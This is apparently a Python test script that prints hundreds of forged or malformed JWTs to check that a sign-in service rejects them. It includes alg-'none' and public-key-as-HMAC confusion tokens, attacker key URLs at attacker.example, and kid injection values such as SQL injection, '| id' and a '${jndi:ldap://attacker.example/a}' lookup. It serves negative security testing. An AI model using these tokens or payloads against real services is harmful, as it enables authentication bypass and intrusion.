#!/usr/bin/env python3
"""Prints hostile tokens, one line of JSON each: {"name": …, "token": …}. None of them may be taken by a service that
trusts the issuer; many are signed by its true key, which signs good ones with --good.

    python Tests/signin/forge.py --issuer https://login.example.com --audience phonebook \\
        --key issuer.pem --algorithm RS256 --jwks issuer-jwks.json [--kid ID] [--good 3]

The key is a private one in PEM: RSA for RS256 and PS256, P-256 for ES256, Ed25519 for EdDSA. Without --kid it is named
as the key of the JWK set that is its public half. --nonce makes ID tokens, --claim NAME=JSON adds a claim to all.
Tests/signin/install.py makes the Python that has PyJWT and joserfc.
"""

import argparse
import base64
import hashlib
import hmac
import itertools
import json
import sys
import time

import jwt.algorithms
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from joserfc import jwe
from joserfc.jwk import JWKRegistry

ALGORITHMS = jwt.algorithms.get_default_algorithms()
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def encode(data):
    return base64.urlsafe_b64encode(data if isinstance(data, bytes) else data.encode()).rstrip(b"=").decode()


def decode(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def compact(value):
    return json.dumps(value, separators=(",", ":"))


class Forger:
    def __init__(self, options):
        self.options = options
        self.algorithm = options.algorithm
        self.pem = options.key.read()
        self.key = serialization.load_pem_private_key(self.pem.encode(), None)
        self.keys = json.load(options.jwks)["keys"]
        public = JWKRegistry.import_key(json.loads(self.to_jwk(self.key.public_key())))
        own = [key for key in self.keys if JWKRegistry.import_key(key).thumbprint() == public.thumbprint()]
        self.public = own[0] if own else public.as_dict()
        self.kid = options.kid or self.public.get("kid")
        self.now = options.now or int(time.time())
        self.attacker = {
            "RS256": lambda: rsa.generate_private_key(65537, 2048),
            "PS256": lambda: rsa.generate_private_key(65537, 2048),
            "ES256": lambda: ec.generate_private_key(ec.SECP256R1()), "EdDSA": ed25519.Ed25519PrivateKey.generate,
        }[self.algorithm]()
        self.header = {"alg": self.algorithm, "typ": "JWT"} | ({"kid": self.kid} if self.kid else {})
        self.claims = {
            "iss": options.issuer, "aud": options.audience, "sub": options.subject, "iat": self.now - 5,
            "nbf": self.now - 5, "exp": self.now + options.lifetime, "jti": "forged",
        } | ({"nonce": options.nonce} if options.nonce else {}) | dict(options.claim)

    def to_jwk(self, public):
        return ALGORITHMS[self.algorithm].to_jwk(public)

    def sign(self, message, key=None, algorithm=None):
        algorithm = ALGORITHMS[algorithm or self.algorithm]
        return algorithm.sign(message.encode(), key or self.key)

    def token(self, header=None, claims=None, key=None, algorithm=None):
        """A token of two documents: objects, or what is written instead of them."""
        parts = []
        for document in (self.header if header is None else header, self.claims if claims is None else claims):
            parts.append(encode(document if isinstance(document, (str, bytes)) else compact(document)))
        start = ".".join(parts)
        return f"{start}.{encode(self.sign(start, key, algorithm))}"

    def with_header(self, key=None, **members):
        header = self.header | members
        return self.token(header={name: value for name, value in header.items() if value is not ...}, key=key)

    def with_claims(self, **members):
        claims = self.claims | members
        return self.token(claims={name: value for name, value in claims.items() if value is not ...})

    def with_json(self, claim, text):
        """A claim as no encoder would write it."""
        rest = {name: value for name, value in self.claims.items() if name != claim}
        return self.token(claims=compact(rest)[:-1] + f',"{claim}":{text}}}')

    # What is wrong with them, each a generator of (name, token).

    def algorithms(self):
        start = lambda alg: encode(compact(self.header | {"alg": alg})) + "." + encode(compact(self.claims))
        for alg in ["none", "None", "NONE", "nOnE", "", " none", "none\0", "HS256", "RS384", "ES512", "rs256", "es256",
                    "eddsa", "RS256 ", "dir", "RSA-OAEP", "RSA1_5", "Ed25519", "ES256K"]:
            yield f"alg {alg!r}, no signature", start(alg) + "."
            yield f"alg {alg!r}, some signature", start(alg) + ".AAAA"
            yield f"alg {alg!r}, true signature", start(alg) + "." + encode(self.sign(start(alg)))
        for alg in [None, True, 1, ["RS256"], {}, ...]:
            yield f"alg {alg!r}", self.with_header(alg=alg)
        public = self.key.public_key()
        forms = {"JWK": compact(self.public).encode(), "empty": b"", "kid": (self.kid or "").encode()}
        encodings, formats = serialization.Encoding, serialization.PublicFormat
        for form, encoding, format in [
                ("PEM", encodings.PEM, formats.SubjectPublicKeyInfo),
                ("DER", encodings.DER, formats.SubjectPublicKeyInfo),
                ("PKCS #1 in PEM", encodings.PEM, formats.PKCS1), ("PKCS #1 in DER", encodings.DER, formats.PKCS1)]:
            try:
                forms[form] = public.public_bytes(encoding, format)
            except (ValueError, TypeError):
                continue
            forms[f"{form}, no line feed"] = forms[form].strip()
        for (form, secret), (alg, digest) in itertools.product(
                forms.items(), [("HS256", hashlib.sha256), ("HS384", hashlib.sha384), ("HS512", hashlib.sha512)]):
            message = start(alg)
            code = hmac.digest(secret, message.encode(), digest)
            yield f"{alg} by the public key, {form}", f"{message}.{encode(code)}"
        for alg in ["RS256", "PS256", "ES256", "EdDSA"]:
            if alg != self.algorithm:
                yield f"{self.algorithm} called {alg}", self.with_header(alg=alg)
        if isinstance(self.key, rsa.RSAPrivateKey):
            other = "PS256" if self.algorithm == "RS256" else "RS256"
            yield f"{other} called {self.algorithm}", self.token(algorithm=other)
            message = f"{encode(compact(self.header))}.{encode(compact(self.claims))}"
            for salt in (0, 20, padding.PSS.MAX_LENGTH):
                signature = self.key.sign(
                    message.encode(), padding.PSS(mgf=padding.MGF1(SHA256()), salt_length=salt), SHA256())
                yield f"PSS with a salt of {salt} called {self.algorithm}", f"{message}.{encode(signature)}"

    def headers(self):
        attacker = self.attacker
        jwk = json.loads(self.to_jwk(attacker.public_key()))
        for kid in [self.kid, "attacker", ...]:
            yield f"attacker's key, kid {kid!r}", self.with_header(key=attacker, kid=kid)
        for name, value in {
                "jwk": jwk, "jku": "https://attacker.example/jwks.json", "x5u": "https://attacker.example/cert.pem",
                "x5c": [base64.b64encode(attacker.public_key().public_bytes(
                    serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)).decode()]}.items():
            yield f"{name} with the attacker's key", self.with_header(key=attacker, **{name: value})
            yield f"{name} with the attacker's key, no kid", self.with_header(key=attacker, kid=..., **{name: value})
            yield f"{name}, truly signed", self.with_header(**{name: value})
            yield f"{name} null, truly signed", self.with_header(**{name: None})
        issuer = self.options.issuer
        for jku in [issuer, issuer + "/../attacker", "file:///etc/passwd", "http://127.0.0.1:1/"]:
            yield f"jku {jku}", self.with_header(key=attacker, jku=jku)
        for name, values in {
                "crit": [["exp"], ["b64"], [], None, ["x"]], "b64": [False, True], "zip": ["DEF", None],
                "cty": ["JWT", "jwt", "application/jwt"],
                "typ": ["logout+jwt", "dpop+jwt", "secevent+jwt", "JOSE", "", "JWE", 1, None, ["JWT"], "id+jwt",
                        "JWT "],
                "kid": ["", "../../../../dev/null", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'key'--", "k" * 257,
                        "q" * 300,
                        None, 1, [self.kid], {}, True, f"{self.kid} ", f"{self.kid}\0", "| id", "\u212a",
                        "%2e%2e%2f", "http://attacker.example/key", "${jndi:ldap://attacker.example/a}"]}.items():
            for value in values:
                yield f"{name} {str(value)[:40]!r}", self.with_header(**{name: value})

    def dates(self):
        now = self.now
        wrong = ["null", f'"{now + 300}"', "-1", "1e300", "1e400", "-1e400", f"{(now + 300) * 1000}", "true", "[]",
                 "{}",
                 f"[{now + 300}]", '""', "99999999999999999999999", "253402300800"]
        malformed = ["NaN", "Infinity", "-Infinity", f"0{now + 300}", f"+{now + 300}", "0x7fffffff", "",
                     f"{now + 300}."]
        for claim, text in itertools.product(["exp", "nbf", "iat"], wrong + malformed):
            yield f"{claim} {text}", self.with_json(claim, text)
        yield "no exp", self.with_claims(exp=...)
        for seconds in [0, 1, 60, 3600, 86400 * 365]:
            yield f"expired {seconds} s ago", self.with_claims(exp=now - seconds)
        for text in ["0", "-0", "0.0", "1", "1e0", "1e-300"]:
            yield f"exp {text}", self.with_json("exp", text)
        # Far enough that they are still to come when they are sent.
        for claim, seconds in itertools.product(["nbf", "iat"], [7200, 86400, 86400 * 365]):
            yield f"{claim} in {seconds} s", self.with_claims(**{claim: now + seconds, "exp": now + seconds + 300})

    def names(self):
        issuer, audience = self.options.issuer, self.options.audience
        for value in [..., None, "", 1, [issuer], {"iss": issuer}, issuer + "/", issuer + " ", issuer.upper(),
                      issuer[:-1],
                      issuer + "\0", issuer + "#", issuer + "?x", "https://attacker.example",
                      issuer.replace("://", "://attacker.example@"), issuer + "//",
                      " " + issuer]:
            yield f"iss {value!r}", self.with_claims(iss=value)
        for value in [..., None, "", [], 1, {}, {audience: True}, audience + " ", audience.upper() + "X", audience[:-1],
                      audience + "/", [audience + "x"], [[audience]], [audience, 1], [None], "*", audience + ",x",
                      f"x {audience}", "account", True, [""], audience + "\0"]:
            yield f"aud {value!r}", self.with_claims(aud=value)
        for value in [..., None, "", 1, ["x"], {}, True, "s" * 256, "\u00e9" * 128, "alice\0", "a\nb", "\u007f"]:
            yield f"sub {str(value)[:40]!r}", self.with_claims(sub=value)
        if self.options.nonce:
            for value in [..., None, "", 1, [self.options.nonce], self.options.nonce + "x", self.options.nonce[:-1]]:
                yield f"nonce {value!r}", self.with_claims(nonce=value)
            for value in [["x", audience], [audience, audience]]:
                yield f"aud {value!r} without azp", self.with_claims(aud=value)
            yield "azp of another", self.with_claims(azp="other")

    def documents(self):
        header, claims = compact(self.header), compact(self.claims)
        bom = b"\xef\xbb\xbf"
        changes = {
            "with a BOM": lambda text: bom + text.encode(), "in UTF-16": lambda text: text.encode("utf-16"),
            "in UTF-16LE": lambda text: text.encode("utf-16-le"), "in UTF-32": lambda text: text.encode("utf-32"),
            "with NUL behind": lambda text: text + "\0", "with NUL before": lambda text: "\0" + text,
            "twice": lambda text: text + text, "in an array": lambda text: f"[{text}]", "as a string": json.dumps,
            "cut off": lambda text: text[:-1], "with a comma behind": lambda text: text[:-1] + ",}",
            "with a comment": lambda text: text + "/**/",
            "with bad UTF-8": lambda text: text[:-1].encode() + b',"x":"\xff"}',
            "with overlong UTF-8": lambda text: text[:-1].encode() + b',"x":"\xc0\x80"}',
            "with half a surrogate": lambda text: text[:-1] + ',"x":"\\ud800"}',
            "with a raw NUL": lambda text: text[:-1] + ',"x":"\0"}',
            "with a raw line feed": lambda text: text[:-1] + ',"x":"\n"}',
            "in single quotes": lambda text: text.replace('"', "'"), "that is null": lambda text: "null",
            "that is a space": lambda text: " ", "that is {}": lambda text: "{}", "that is a number": lambda text: "1",
            "with open arrays": lambda text: text[:-1] + ',"x":' + "[" * 1000,
            "with open objects": lambda text: text[:-1] + ',"x":' + '{"a":' * 300,
            "100 arrays deep": lambda text: text[:-1] + ',"x":' + "[" * 100 + "]" * 100 + "}",
            "with a name twice, deep": lambda text: text[:-1] + ',"x":[{"a":{"b":1,"b":2}}]}',
            "with a name twice, escaped": lambda text: text[:-1] + ',"x":{"a":1,"\\u0061":2}}',
            "with a name twice, empty": lambda text: text[:-1] + ',"":1,"":2}',
        }
        for name, change in changes.items():
            yield f"header {name}", self.token(header=change(header))
            yield f"payload {name}", self.token(claims=change(claims))
        for name in self.header:
            again = f',"{name}":{json.dumps(self.header[name])}}}'
            yield f"{name} twice in the header", self.token(header=header[:-1] + again)
            yield f"{name} twice, first none", self.token(header=f'{{"{name}":"none",' + header[1:])
        for name in self.claims:
            again = f',"{name}":{json.dumps(self.claims[name])}}}'
            yield f"{name} twice in the payload", self.token(claims=claims[:-1] + again)
            yield f"{name} twice, first another", self.token(claims=f'{{"{name}":"admin",' + claims[1:])
        yield "over 8 KiB", self.with_claims(x="x" * 7000)
        yield "10,000 arrays deep", self.with_json("x", "[" * 10_000 + "]" * 10_000)

    def shapes(self):
        good = self.token()
        header, payload, signature = good.split(".")
        yield from {
            "nothing signed": f"{header}.{payload}.", "without signature": f"{header}.{payload}",
            "only a header": header,
            "dots": "..", "a dot": ".", "a word": "token", "a part more": good + ".AAAA", "a dot more": good + ".",
            "a dot before": "." + good, "no header": f".{payload}.{signature}", "no payload": f"{header}..{signature}",
            "shape of a JWE": f"{header}.AAAA.AAAA.{payload}.{signature}", "8 KiB of dots": "." * 8192,
            "in JSON": compact({"protected": header, "payload": payload, "signature": signature}),
            "twice": good + good, "quoted": f'"{good}"', "Bearer before it": "Bearer " + good, "parts turned round":
            f"{payload}.{header}.{signature}",
        }.items()
        oct_key = JWKRegistry.generate_key("oct", 128)
        yield "a true JWE", jwe.encrypt_compact({"alg": "A128KW", "enc": "A128GCM"}, good.encode(), oct_key)
        yield "a token in a token", self.token(claims=compact(good))
        for index, (name, change) in itertools.product(range(3), {
                "padded": lambda part: part + "=", "padded twice": lambda part: part + "==",
                "with a space": lambda part: part[:4] + " " + part[4:], "with a space behind": lambda part: part + " ",
                "with +": lambda part: "+" + part[1:], "with /": lambda part: "/" + part[1:],
                "with !": lambda part: part + "!", "with %3D": lambda part: part + "%3D",
                "with one sign more": lambda part: part + "A", "a sign short": lambda part: part[:-1],
                "with a tab": lambda part: part[:8] + "\t" + part[8:],
        }.items()):
            parts = good.split(".")
            parts[index] = change(parts[index])
            yield f"part {index} {name}", ".".join(parts)
        # Bits of the last sign that no byte has: a lenient decoder reads the same token.
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        for index in range(3):
            parts = good.split(".")
            spare = {0: 0, 2: 4, 3: 2}[len(parts[index]) % 4]
            for bits in range(1, 1 << spare):
                last = alphabet[alphabet.index(parts[index][-1]) ^ bits]
                other = parts[:index] + [parts[index][:-1] + last] + parts[index + 1:]
                yield f"part {index}, left-over bits {bits}", ".".join(other)

    def signatures(self):
        good = self.token()
        header, payload, signature = good.split(".")
        raw = decode(signature)
        other = decode(self.with_claims(sub="somebody-else").split(".")[2])
        changes = {
            "of another token": other, "zeros": bytes(len(raw)), "ones": b"\xff" * len(raw), "one byte": b"\1",
            "short": raw[:-1], "short in front": raw[1:], "long": raw + b"\0", "long in front": b"\0" + raw,
            "twice": raw + raw, "reversed": raw[::-1], "hash": hashlib.sha256(f"{header}.{payload}".encode()).digest(),
        }
        if self.algorithm == "ES256":
            number = lambda value: value.to_bytes(32, "big")
            r, s = raw[:32], raw[32:]
            changes |= {
                "DER": encode_dss_signature(int.from_bytes(r, "big"), int.from_bytes(s, "big")),
                "r zero": number(0) + s,
                "s zero": r + number(0), "r and s the order": number(ORDER) * 2, "r and s one": number(1) * 2,
                "r one, s zero": number(1) + number(0), "r order, s one": number(ORDER) + number(1),
                "turned round": s + r,
            }
        if isinstance(self.key, rsa.RSAPrivateKey):
            modulus = self.key.public_key().public_numbers().n
            size = len(raw)
            value = int.from_bytes(raw, "big")
            digest = hashlib.sha256(f"{header}.{payload}".encode()).digest()
            info = bytes.fromhex("3031300d060960864801650304020105000420") + digest
            padded = b"\0\1" + b"\xff" * (size - len(info) - 3) + b"\0" + info
            changes |= {
                "the padded digest itself": padded, "the modulus": modulus.to_bytes(size, "big"),
                "one": (1).to_bytes(size, "big"), "the modulus less one": (modulus - 1).to_bytes(size, "big"),
                "negated": (modulus - value).to_bytes(size, "big"), "plus the modulus":
                (value + modulus).to_bytes(size + 1, "big"),
            }
        for name, bytes_ in changes.items():
            yield f"signature {name}", f"{header}.{payload}.{encode(bytes_)}"
        yield "payload changed", f"{header}.{encode(compact(self.claims | {'sub': 'admin'}))}.{signature}"
        yield "header changed", f"{encode(compact(self.header | {'x': 1}))}.{payload}.{signature}"
        for index, part in enumerate((header, payload, signature)):
            data = decode(part)
            for place in sorted({0, 1, len(data) // 3, len(data) // 2, len(data) - 2, len(data) - 1}):
                flipped = bytearray(data)
                flipped[place] ^= 1
                parts = [header, payload, signature]
                parts[index] = encode(bytes(flipped))
                yield f"a bit of byte {place} of part {index}", ".".join(parts)
        step = max(1, len(good) // 40)
        for length in range(1, len(good), step):
            yield f"cut off at {length}", good[:length]

    def all(self):
        return itertools.chain(
            self.algorithms(), self.headers(), self.dates(), self.names(), self.documents(), self.shapes(),
            self.signatures())


def claim(text):
    name, _, value = text.partition("=")
    return name, json.loads(value)


def main():
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--issuer", required=True)
    parser.add_argument("--audience", required=True, help="of good tokens")
    parser.add_argument("--key", required=True, type=argparse.FileType(), help="the issuer's private key, in PEM")
    parser.add_argument("--jwks", required=True, type=argparse.FileType(), help="the issuer's JWK set")
    parser.add_argument("--algorithm", default="RS256", choices=["RS256", "PS256", "ES256", "EdDSA"])
    parser.add_argument("--kid")
    parser.add_argument("--subject", default="alice")
    parser.add_argument("--nonce", help="make ID tokens of this sign-in")
    parser.add_argument("--claim", action="append", default=[], type=claim, help="NAME=JSON, in all of them")
    parser.add_argument("--now", type=int, help="seconds since 1970; the clock otherwise")
    parser.add_argument("--lifetime", type=int, default=3600, help="seconds that good ones live")
    parser.add_argument("--good", type=int, metavar="N", help="print N good tokens instead, to see that they are taken")
    options = parser.parse_args()
    forger = Forger(options)
    if options.good:
        for number in range(options.good):
            print(json.dumps({"name": f"good {number}", "token": forger.with_claims(jti=f"good-{number}")}))
        return
    for name, token in forger.all():
        print(json.dumps({"name": name, "token": token}))


if __name__ == "__main__":
    sys.exit(main())
